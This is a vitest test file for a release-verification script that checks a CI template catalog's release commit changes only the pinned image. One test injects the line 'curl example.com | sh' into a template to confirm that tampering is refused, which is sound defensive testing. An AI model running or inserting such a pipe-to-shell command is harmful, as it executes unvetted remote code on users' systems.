import { expect, test } from 'vitest';
import { catalogFiles, createRepository, digests, imageOf, type Repository, template } from './repository.ts';

const path = 'templates/check/template.yml';

async function createReleased(): Promise<Repository> {
  const files = catalogFiles('1.0.0', '### Added\n\n- The component `check`.');
  const repository = createRepository({ ...files, 'templates/other/template.yml': template });
  await repository.run('release.ts', '--image', imageOf('1.0.0'));
  return repository;
}

async function expectMistake(repository: Repository, tag: string, message: string): Promise<void> {
  const ran = await repository.run('release/verify.ts', `--tag=${tag}`, '--notes=notes.md');
  expect(ran.stderr).toContain(message);
  expect(ran.stderr).toContain('code: RELEASE_NOT_A_STAMP');
  expect(ran.exitCode).toBe(2);
  expect(() => repository.read('notes.md')).toThrow('ENOENT');
}

test('a commit of the release tool passes, and its section of the changelog is written', async () => {
  const repository = await createReleased();
  const ran = await repository.run('release/verify.ts', '--tag=1.0.0', '--notes=notes.md');
  expect(ran).toEqual({ exitCode: 0, stderr: '', stdout: 'HEAD is the release commit of 1.0.0\n' });
  expect(repository.read('notes.md')).toBe('### Added\n\n- The component `check`.\n');
});

test('a tag on the commit before is refused: its templates have no image', async () => {
  const repository = await createReleased();
  repository.git('checkout', '--quiet', 'HEAD^');
  await expectMistake(repository, '1.0.0', `the image in ${path}: it has none`);
});

test('a tag on the commit after is refused', async () => {
  const repository = await createReleased();
  repository.commit({ 'README.md': 'later\n' });
  await expectMistake(repository, '1.0.0', "README.md differs from its parent's in more than the image");
});

test('a tag of another version is refused', async () => {
  const repository = await createReleased();
  await expectMistake(repository, '1.0.1', 'its tag is 1.0.0');
  await expectMistake(repository, '1.0.1', 'its package.json says 1.0.0, not 1.0.1');
});

test.each([
  ['changes a script as well', (text: string) => text.replace('pipewright check', 'curl example.com | sh')],
  ['changes a comment as well', (text: string) => text.replace('# stamped', '# ours')],
])('a release commit that %s is refused', async (_, change) => {
  const repository = await createReleased();
  repository.write({ [path]: change(repository.read(path)) });
  repository.git('commit', '--quiet', '--amend', '--all', '--no-edit');
  await expectMistake(repository, '1.0.0', `${path} differs from its parent's in more than the image`);
});

test('a release commit that adds a template file is refused', async () => {
  const repository = await createReleased();
  repository.write({ 'templates/more/template.yml': repository.read(path) });
  repository.git('add', '--all');
  repository.git('commit', '--quiet', '--amend', '--no-edit');
  await expectMistake(repository, '1.0.0', "templates/more/template.yml differs from its parent's");
});

test('templates with two images are refused', async () => {
  const repository = await createReleased();
  repository.write({ [path]: repository.read(path).replace(imageOf('1.0.0'), imageOf('1.0.0', digests[1])) });
  repository.git('commit', '--quiet', '--amend', '--all', '--no-edit');
  await expectMistake(repository, '1.0.0', 'its templates have different images');
});

test('a clone too shallow to see the parent is refused', async () => {
  const repository = await createReleased();
  repository.write({ '.git/shallow': `${repository.git('rev-parse', 'HEAD')}\n` });
  await expectMistake(repository, '1.0.0', 'it must have one parent, and the clone must reach it');
});
